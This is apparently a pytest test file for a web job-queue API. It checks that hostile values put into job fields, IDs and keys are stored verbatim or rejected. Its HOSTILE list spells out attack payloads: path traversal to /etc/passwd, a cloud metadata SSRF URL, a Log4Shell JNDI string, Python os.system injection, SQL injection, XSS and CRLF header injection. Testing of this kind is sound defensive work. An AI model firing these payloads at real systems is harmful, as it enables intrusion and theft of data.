"""Text that means something elsewhere (a path, a template, a query, a command) is text here, in every field."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest

from tests.web.house import TEXT, House

HOSTILE = [
    "../../etc/passwd",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "{0.__class__.__init__.__globals__}",
    "%(password)s %n%s",
    "${jndi:ldap://evil/x}",
    "__import__('os').system('id')",
    "'; DROP TABLE jobs; --",
    "job#x|key#y",
    "<script>alert(1)</script>",
    "a\r\nSet-Cookie: x=1",
    "\x1b[2J\u2028\u202e",
]
FIELDS: dict[str, Any] = {
    "type": lambda text: {"type": text},
    "queue": lambda text: {"queue": text},
    "tags": lambda text: {"tags": [text]},
    "metadata": lambda text: {"metadata": {"note": text}},
    "a metadata name": lambda text: {"metadata": {text: "note"}},
    "payload": lambda text: {"payload": {"text": text}},
    "an unknown field": lambda text: {text: 1},
    "max_attempts": lambda text: {"max_attempts": text},
}


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("field", FIELDS)
async def test_a_hostile_value_is_kept_as_it_is_or_refused(house: House, field: str, text: str) -> None:
    said = FIELDS[field](text)
    status, job = await house.post("/jobs", json=TEXT | said)
    assert status in (202, 400, 422), job
    if status == 202:
        status, shown = await house.get(f"/jobs/{job['job_id']}")
        assert (status, {name: shown[name] for name in said}) == (200, said)
    else:
        assert house.queue.bodies == []


@pytest.mark.parametrize("text", HOSTILE)
async def test_a_hostile_id_or_key_names_nothing_of_anybody_elses(house: House, text: str) -> None:
    await house.submit()
    path = quote(text, safe="")
    for method, rest in [("GET", ""), ("POST", "/retry"), ("POST", "/cancel")]:
        async with house.client.request(method, f"/jobs/{path}{rest}") as answer:
            assert answer.status in (400, 404), await answer.text()
    async with house.client.get(f"/artifacts/{path}") as answer:
        assert answer.status in (400, 404), await answer.text()
    if text.isprintable():
        status, _ = await house.post("/jobs", json=TEXT, headers={"Idempotency-Key": text})
        assert status in (202, 400)
